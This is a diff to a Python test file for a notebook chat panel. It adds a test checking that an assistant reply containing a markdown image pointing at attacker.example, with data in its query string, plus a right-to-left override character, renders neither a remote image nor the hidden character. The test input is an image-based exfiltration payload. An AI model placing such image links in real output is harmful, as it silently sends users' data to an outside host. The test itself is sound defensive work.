@@ -14,6 +14,7 @@ from awf_nb.engine import events as ev
 from awf_nb.frontends.notebook.handle import AwfCellError, RunHandle
 from awf_nb.frontends.notebook.panel import RunPanel
 from awf_nb.frontends.notebook.panel_items import clean_output, render_markdown
+from awf_nb.frontends.notebook.panel_static import static_html
 from awf_nb.frontends.notebook.reader import WidgetReader
 from awf_nb.frontends.notebook.stream_view import StreamHTML
 from tests.support.waiting import until
@@ -311,6 +312,20 @@ def test_markdown_is_rendered_with_raw_html_escaped() -> None:
     assert "<img" not in rendered
     assert 'href="javascript:' not in rendered
     assert '<code class="language-python">' in rendered
+
+
+async def test_the_live_panel_and_its_saved_html_load_no_remote_image() -> None:
+    reply = "Look: ![chart](https://attacker.example/?d=notes) and x\u202ey."
+    panel, handle = start(conversation([reply]), interactive=False)
+    result = await asyncio.wait_for(handle.wait(), WAIT_SECONDS)
+
+    assert result.ok, result.error
+    (shown,) = [html for kind, html in bubbles(panel) if kind == "awf-assistant"]
+    saved = static_html(panel.widget)
+    for html in (shown, saved):
+        assert "<img" not in html
+        assert 'class="awf-remote-image" href="https://attacker.example/?d=notes"' in html
+        assert "x⟨U+202E⟩y" in html and "\u202e" not in html
 
 
 def test_clean_output() -> None:
